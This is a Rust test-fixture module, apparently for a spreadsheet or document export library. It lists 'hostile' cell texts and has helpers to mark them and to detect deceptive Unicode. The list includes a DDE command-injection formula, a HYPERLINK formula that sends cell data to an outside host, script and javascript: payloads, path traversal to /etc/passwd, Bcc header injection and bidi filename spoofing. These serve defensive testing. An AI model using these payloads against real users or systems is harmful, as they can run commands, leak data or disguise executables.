//! Texts that would be something else than text somewhere: a formula, markup,
//! a code, a path, or nothing that can be seen.

/// What a text begins with, and what it is.
const HOSTILE: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "=HYPERLINK(\"http://a.example/?\"&A1,\"klicka\")",
    "#import \"x\": *",
    "#eval(\"1+1\") #panic()",
    "$ x^2 $ *fet* _kursiv_ `kod` <etikett> @hänvisning",
    "= Rubrik\n- punkt\n+ siffra\n/ term: a",
    "// bort /* bort */ \\ # [ ] { }",
    "<script>alert(1)</script><b>fet</b>",
    "&amp; &lt;b&gt; &#65; %20 %s {0} ${a}",
    "]]> --> ?> </t></si>",
    "fakta\u{202e}txt.exe\u{202c} \u{2066}a\u{2069}",
    "o\u{200b}s\u{200d}y\u{feff}n\u{ad}lig",
    "noll\u{0}ljud\u{7}bak\u{8}esc\u{1b}[31mröd\u{1b}]0;titel\u{7}del\u{7f}c1\u{9b}2J",
    "\u{fffe}\u{ffff}inga tecken\u{fdd0}",
    "\u{301}ensam accent",
    "a_x000D_b _x0041_ _x005F_",
    "http://a.example/x.exe",
    "javascript:alert(1)",
    "file:///etc/passwd \\\\server\\share",
    "mailto:a@a.example?bcc=b@b.example",
    "../../etc/passwd",
    "rad ett\r\nBcc: b@b.example\r\n\r\nrad tre\tflik",
    "&L&\"Arial\"&99A&G&[Bild]",
    "\u{1f4a9}\u{10ffff}\u{e000}",
];

/// How many kinds there are.
pub(crate) const COUNT: usize = HOSTILE.len();

/// Returns the nth hostile text, with a mark that no other text has.
pub(crate) fn text(n: usize) -> String {
    format!("{} {}", HOSTILE[n % COUNT], mark(n))
}

/// Returns a text as long as a cell can hold.
pub(crate) fn longest(n: usize) -> String {
    let mark = mark(n);
    let start = format!("={}", "A1+".repeat(4_000));
    let rest = 32_767 - start.len() - mark.len() - 1;
    format!("{start}{} {mark}", "x".repeat(rest))
}

fn mark(n: usize) -> String {
    format!("qz{n:05}z")
}

/// Returns the marks that stand in a text.
pub(crate) fn marks(text: &str) -> Vec<usize> {
    let starts = text.match_indices("qz").map(|(at, _)| at + 2);
    starts
        .filter_map(|at| {
            let digits = text.get(at..at + 5)?;
            text.get(at + 5..at + 6).filter(|end| *end == "z")?;
            digits.parse().ok()
        })
        .collect()
}

/// Returns the first character that hides, turns round or steers what stands
/// about it.
pub(crate) fn deceiving(text: &str) -> Option<char> {
    text.chars().find(|c| {
        (c.is_control() && *c != '\n')
            || matches!(
                c,
                '\u{200b}'..='\u{200f}'
                    | '\u{202a}'..='\u{202e}'
                    | '\u{2060}'..='\u{206f}'
                    | '\u{feff}'
                    | '\u{fffe}'
                    | '\u{ffff}'
            )
    })
}
